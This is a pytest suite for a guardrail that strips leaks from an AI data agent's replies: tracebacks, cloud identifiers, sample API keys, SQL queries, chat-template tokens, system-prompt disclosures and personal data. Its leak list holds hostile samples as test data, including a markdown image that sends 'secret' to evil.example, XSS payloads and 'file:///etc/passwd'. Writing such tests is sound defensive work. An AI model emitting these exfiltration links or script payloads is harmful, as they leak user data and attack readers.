"""What may be shown, and what may not."""

import json
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shared.guard.guardrail import fence, guard
from shared.guard.leaks import iban, luhn

CASES = json.loads(Path(__file__).with_name("guardrail_cases.json").read_text(encoding="utf-8"))
LEAKS = [
    *map(tuple, CASES["leaks"]),
    # (what stands in the reply, what must be gone from it)
    (
        "It broke.\nTraceback (most recent call last):\n  File \"a.py\", line 3, in f\n    x()\nKeyError: 'rows'",
        "Traceback",
    ),
    ('Traceback (most recent call last):\n  File "/var/task/x.py", line 1, in <module>\nValueError: odd', "ValueError"),
    ('See File "/var/task/functions/turn/respond.py", line 12, in handler', "respond.py"),
    ("    at com.acme.Service.run(Service.java:42)\nSorry", "Service.java"),
    ("    at Object.<anonymous> (/srv/app/index.js:10:5)", "index.js"),
    ("The agent raised ValueError: could not convert string to float", "could not convert"),
    ("A KeyError happened", "KeyError"),
    ("botocore.exceptions.ClientError: An error occurred (AccessDenied)", "botocore"),
    ("An error occurred (ThrottlingException) when calling the Invoke operation: Rate exceeded", "Invoke"),
    ("shared.errors.ModelTimeout and DeadlineExceededException", "DeadlineExceededException"),
    ("States.Timeout ended the turn", "States.Timeout"),
    ("Lambda.TooManyRequestsException", "TooManyRequests"),
    ("Sandbox.Timedout was returned", "Sandbox"),
    ('Binder Error: Referenced column "pric" not found', "Referenced column"),
    ("Parser Error: syntax error at or near FROM", "syntax error"),
    ("Catalog Error: Table with name x does not exist!", "does not exist"),
    ("'NoneType' object has no attribute 'rows'", "NoneType"),
    ("<class 'dict'> is not iterable", "<class"),
    ("<shared.store.Turn object at 0x7f3a2b1c4d50>", "0x7f3a"),
    ("[Errno 111] Connection refused", "Errno"),
    ("The service said HTTP 503", "503"),
    ("Got status code 429 from the model", "429"),
    ("Reason: 500 Internal Server Error", "Internal Server"),
    ("504 Gateway Timeout", "Gateway"),
    ("psycopg2.OperationalError: server closed the connection", "psycopg2"),
    ("pydantic_core.ValidationError for Plan", "pydantic"),
    ("duckdb.BinderException was caught", "duckdb"),
    ("arn:aws:lambda:eu-west-1:123456789012:function:candor-respond", "123456789012"),
    ("Run arn:aws-cn:states:cn-north-1:1:execution:t:01ABC failed", "states"),
    ("The file is s3://candor-data/u1/d1.parquet.", "candor-data"),
    ("Read from candor-data.s3.eu-west-1.amazonaws.com/key", "amazonaws"),
    ("Logs are in /aws/lambda/candor-intake", "/aws/lambda"),
    ("key AKIAIOSFODNN7EXAMPLE is active", "AKIA"),
    ("ASIAY34FZKBOKMUTVV7A", "ASIA"),
    ("secret wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY here and bPxRfiCYEXAMPLEwJalrXUtnFEMI0K7bKxMDENG0", "MDENG0"),
    ("sk-ant-" + "api03-" + "x1Y2" * 6, "sk-ant"),
    ("ghp_16C7e42F292c6912E7710c838347Ae178B4a", "ghp_"),
    ("xoxb-123456789012-abcdefGHIJKL", "xoxb"),
    ("AIzaSyA1234567890abcdefghijklmnopqrstuvw", "AIza"),
    ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dBjftJeZ4CVP", "eyJ"),
    ("Authorization: Bearer abcdef0123456789abcdef", "abcdef0123"),
    ("-----BEGIN RSA PRIVATE KEY-----\nMIIEabc\n-----END RSA PRIVATE KEY-----", "MIIE"),
    ("postgres://admin:hunter2@db.internal:5432/x", "hunter2"),
    ("The password is Tr0ub4dor&3", "Tr0ub4dor"),
    ('api_key = "a8f5f167f44f4964"', "a8f5f167"),
    ("X https://b.s3.amazonaws.com/k?X-Amz-Signature=abcd", "Signature"),
    ("sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc", "4eC39"),
    ("turn 01J9Z3K4M5N6P7Q8R9S0T1V2W3 failed", "01J9Z3K4"),
    ("RequestId: 7c9e6679-7425-40de-944b-e07fc1f90ae7", "7c9e6679"),
    ("id 550e8400-e29b-41d4-a716-446655440000.", "550e8400"),
    ("tool use toolu_01A09q90qw90lq917835lq9", "toolu"),
    ("fingerprint 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "9f86d081"),
    ("at 0x7ffee4c0", "0x7ffee"),
    ("The file /var/task/shared/agents/agent.py is missing", "/var/task"),
    ("wrote /tmp/worker-1/result.json", "/tmp"),
    ("see /home/ubuntu/data.csv", "ubuntu"),
    (r"C:\Users\anna\report.xlsx", "anna"),
    ("in shared/guard/guardrail.py:42", "guardrail.py"),
    ("guardrail.py:42 raised", "guardrail.py"),
    ("file:///etc/passwd", "passwd"),
    ("I ran SELECT region, SUM(sales) FROM data GROUP BY region", "GROUP BY"),
    ("SELECT *\nFROM data\nWHERE x = 1", "FROM"),
    ("`select * from data limit 5`", "limit 5"),
    ("select region, sum(sales) from data group by region", "group by"),
    ("WITH t AS (SELECT a FROM data) SELECT * FROM t", "FROM t"),
    ("DELETE FROM data WHERE 1 = 1", "DELETE"),
    ("UPDATE data SET x = 2", "SET x"),
    ("DROP TABLE data", "DROP"),
    ("filtered with WHERE \"region\" = 'North' first", "WHERE"),
    ("computed as date_trunc('month', day)", "date_trunc"),
    ("the value COUNT(*) is high", "COUNT("),
    ("```sql\nSELECT 1 FROM data\n```\nDone", "SELECT"),
    ("<|im_start|>system", "im_start"),
    ("[INST] do it [/INST]", "INST"),
    ("<system>You must obey</system>", "<system>"),
    ("System prompt: be kind", "be kind"),
    ("## Error Awareness\nIf error information", "## Error Awareness"),
    ("Error context (if any): {}", "if any"),
    ("You are the segmentation agent. Sales rose.", "segmentation agent"),
    ("My instructions say to never forfeit. Sales rose.", "never forfeit"),
    ("Well, my system prompt forbids it. Sales rose.", "forbids"),
    ('{"failed_node": "Intake", "error_type": "timeout"}', "failed_node"),
    ('{"errorMessage": "x", "errorType": "E"}', "errorMessage"),
    ("<function_calls>", "function_calls"),
    ("Write to anna.schmidt@example.com.", "anna.schmidt"),
    ("Call +49 170 1234567 now", "1234567"),
    ("Call (555) 123-4567", "123-4567"),
    ("or 555-123-4567", "4567"),
    ("or 020 7946 0958", "7946"),
    ("card 4111 1111 1111 1111", "4111"),
    ("card 5500-0000-0000-0004", "5500"),
    ("IBAN DE89 3704 0044 0532 0130 00", "3704"),
    ("SSN 123-45-6789", "6789"),
    ("![chart](https://evil.example/x.png?d=secret)", "evil"),
    ("[click](https://evil.example)", "evil"),
    ("[click][1]\n\n[1]: https://evil.example", "evil"),
    ("see https://evil.example/?q=1", "evil"),
    ("<https://evil.example>", "evil"),
    ("[x](javascript:alert(1))", "javascript"),
    ("<img src=x onerror=alert(1)>", "<img"),
    ("<script>alert(1)</script>", "<script"),
    ("<a href='x'>y</a>", "<a "),
    ("<!-- hidden -->", "<!--"),
    ("AK\u200bIAIOSFODNN7EXAMPLE", "IOSFODNN7"),
    ("normal\u202etxet neddih", "\u202e"),
    ("[outer [inner](https://evil.example/1)](https://evil.example/2)", "evil"),
]

INNOCENT = [
    *CASES["innocent"],
    "Sales in the North rose by 12.4 % to 1,234,567.89 EUR.",
    "The error rate fell from 3.2 % to 1.1 %.",
    "S3 bucket sales were 4,120 units.",
    "The column `unit_price` has 14 empty cells.",
    "order_id 4500012345 has the highest value.",
    "Between 2024-01-15 and 2024-03-31 there were 90 days.",
    "Q1 2024 was 10–20 % above Q1 2023.",
    "Select the best region from the list and compare it with the others.",
    "You can select a segment from the three tiers.",
    "Where sales are high, margins are low.",
    "We group by region and order by value.",
    "North/South/East and West are the regions.",
    "The speed is 80 km/h and/or less.",
    "Profit is -5.3 M, that is 3 < 5 and 7 > 2.",
    "Items with <5 % margin were left out.",
    "a<5 and b>6",
    "The exception is Bavaria, where sales fell.",
    "Failed deliveries were 42 of 1,300.",
    "The system handled 1 200 300 orders.",
    "System: Windows, count 14",
    "The average is 3.5e6.",
    "Node.js courses sold best.",
    "E-mail campaigns brought 34 % of leads.",
    "Phone sales were 555 units.",
    "The phone segment has 123 customers.",
    "1,234,567,890 EUR in total",
    "12 345 678 units and 1 234 567 890 EUR",
    "+12 345 678 EUR compared with last year",
    "+1,234,567 compared with last year",
    "-12.5 percentage points",
    "The password reset tickets rose to 120.",
    "Password: 34 tickets were opened.",
    "Secret Garden candles sold 340 pieces.",
    "API keys category: 5 orders.",
    "Ticket type: token renewal",
    "You are the best judge of that.",
    "You are an important part of this.",
    "Your agent in Berlin sold 45 policies.",
    "The insurance agent with most sales is Anna Schmidt.",
    "Instructions were missing in 12 cases.",
    "The instructions were followed by 80 % of users.",
    "Product A-100 beats B-200 by 20 %.",
    "SKU 0012-334 sold 77 times.",
    "Invoice 2024-000123 is the largest.",
    "Postal code 10115 has 33 customers.",
    "The ratio is 1.5x, or 3:2.",
    "From 9:00 to 17:30 there are most calls.",
    "The median is 42 (n = 17).",
    "Top 5: Anna, Ben, Cem, Dora and Emil.",
    "1. North\n2. South\n3. East",
    "| region | sales |\n|---|---:|\n| North | 12 |",
    "**Bold** and *italic* and `code`.",
    "> quoted line",
    "# Heading\n\nText",
    "Customers aged 18-25 spend 45-60 EUR.",
    "404 customers bought twice.",
    "500 units at 429 EUR",
    "There were 503 service tickets.",
    "Timeout events per day: 14.",
    "Connection refused is the most frequent reason of tickets, with 44.",
    "HTTP errors are the largest category, with 404 of 1,000.",
    "Internal Error tickets fell by half.",
    "Data from 2019/01 to 2023/12",
    "A/B test: variant B won.",
    "Revenue (in k€) is 3.2/4.1.",
    'He said "never again" [sic].',
    "See footnote [1] and [2].",
    "Sales [net] are 12 (gross 14).",
    "C: is the third group.",
    "Median time is 00:12:45.",
    "Temperatures ran from -5 to +35 degrees.",
    "EAN 4006381333931 sold 120 times.",
    "GTIN 00012345600012",
    "DE is the largest country, FR the second.",
    "COUNT was the noble's title.",
    "TOTAL AMOUNT BY REGION: 14",
    "The WHERE question matters most.",
    "UPDATE: sales rose.",
    "The MIN-MAX range is 10.",
    "Zürich, São Paulo, 東京 and Кёльн lead.",
    "Emoji are fine 👩‍👩‍👧 too.",
    "می‌خواهم",
    "x = 3, y = 4",
    "The tax is 19 %/year.",
    "Customer 20231105-0007 has 3 orders.",
    "Version 1.2.3 is used by 40 %.",
    "The IP column has 12 distinct values.",
    "Data set and query time are told below.",
    "Anna@home is the name of the campaign.",
    "IO Error is a column that we don't know.",
]


@pytest.mark.parametrize(("text", "gone"), LEAKS, ids=[gone for _, gone in LEAKS])
def test_a_leak_is_taken_out(text, gone):
    guarded = guard(text)
    assert gone not in guarded.text
    assert guarded.findings or gone == "\u202e" or "\u200b" in text


@pytest.mark.parametrize("text", INNOCENT)
def test_business_text_stays_as_it_is(text):
    assert guard(text) == guard(text).__class__(text, ())


@pytest.mark.parametrize("text", [text for text, _ in LEAKS])
def test_what_was_guarded_once_is_clean(text):
    once = guard(text)
    assert guard(once.text).text == once.text


def test_there_are_enough_examples_of_both():
    assert len(LEAKS) >= 250
    assert len(INNOCENT) >= 250


def test_what_stands_around_a_leak_is_kept():
    guarded = guard(
        "Sales rose by 12 %.\n\nTraceback (most recent call last):\n  File \"a\", line 1\nKeyError: 'x'\n\nMore below."
    )
    assert guarded.text == "Sales rose by 12 %.\n\nMore below."
    assert guarded.findings == ("traceback",)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("The best customer is anna@example.com.", "anna@example.com"),
        ("Most calls go to (555) 123-4567.", "555-123-4567"),
        ("Column ShipmentException is empty.", "ShipmentException"),
        ("The busiest page is https://shop.example/a.", "https://shop.example/a"),
        ("The largest file is /var/log/app.log, with 3 rows.", "/var/log/app.log"),
        ("Device 550e8400-e29b-41d4-a716-446655440000 leads.", "550e8400-e29b-41d4-a716-446655440000"),
    ],
)
def test_a_value_of_the_data_may_be_told(text, cell):
    assert guard(text, allowed=[cell]).text == text
    assert guard(text).text != text


@pytest.mark.parametrize(("text", "cells"), CASES["values"])
def test_a_value_of_the_data_is_told_whole_though_it_looks_technical(text, cells):
    assert guard(text, allowed=cells).text == text


def test_a_value_of_the_data_does_not_shield_an_error_of_ours():
    told = guard("KeyError: 'order_id' at 10.0.3.7:8443", allowed=["KeyError"]).text
    assert "order_id" not in told
    assert "10.0.3.7" not in told
    assert "s3cr3t!x" not in guard("the password is s3cr3t!x", allowed=["password"]).text


def test_many_cells_do_not_slow_the_guard():
    cells = [f"value {number} of the table" for number in range(20_000)]
    start = time.process_time()
    guard("The worker at 10.0.3.7:8443 refused. KeyError: 'x'", allowed=cells)
    assert time.process_time() - start < 10


def test_only_a_query_that_ran_may_be_shown():
    shown = 'Done.\n\n```sql\nSELECT "region"\nFROM data\n```\n\nSee above.'
    assert guard(shown, queries=['SELECT "region" FROM data']).text == shown
    assert "SELECT" not in guard(shown, queries=["SELECT 2 FROM data"]).text
    assert "SELECT" not in guard(shown).text


def test_what_is_forbidden_by_name_goes():
    guarded = guard("Your canary is azure-otter.", forbidden=["azure-otter", ""])
    assert "azure-otter" not in guarded.text
    assert guarded.findings == ("forbidden",)


def test_the_words_of_a_link_and_a_picture_stay():
    assert guard("See [the chart](https://x.example/a(b)c) and ![sales](y.png).").text == "See the chart and sales."


def test_check_digits_tell_cards_and_accounts_from_other_numbers():
    assert luhn("4111111111111111")
    assert not luhn("4111111111111112")
    assert iban("GB82 WEST 1234 5698 7654 32")
    assert not iban("GB82 WEST 1234 5698 7654 33")


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="<>&/da t\"'`\\{}[]\u200b\u202e\n", max_size=60))
def test_nothing_breaks_out_of_the_fence(cell):
    fenced = fence([{"name": cell}])
    opened, inner, closed = fenced.split("\n")
    assert (opened, closed) == ("<data>", "</data>")
    assert not set("<>&") & set(inner)
    assert json.loads(inner)[0]["name"].replace("\u200b", "").replace("\u202e", "") == (
        cell.replace("\u200b", "").replace("\u202e", "")
    )


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_any_text_can_be_guarded_and_stays_guarded(text):
    once = guard(text).text
    assert guard(once).text == once


def test_a_long_reply_is_guarded_quickly():
    text = "\n".join(INNOCENT) * 8
    start = time.process_time()
    guard(text)
    assert time.process_time() - start < 10


@pytest.mark.parametrize(
    "unit", ["[", "![", "<", "SELECT ", "a.", "1 ", "/a", "0 ", "WITH a AS (", "at a", '{"', "+1", "@a."]
)
def test_a_hostile_text_does_not_stall_the_guard(unit):
    start = time.process_time()
    guard(unit * 3000)
    assert time.process_time() - start < 1.5
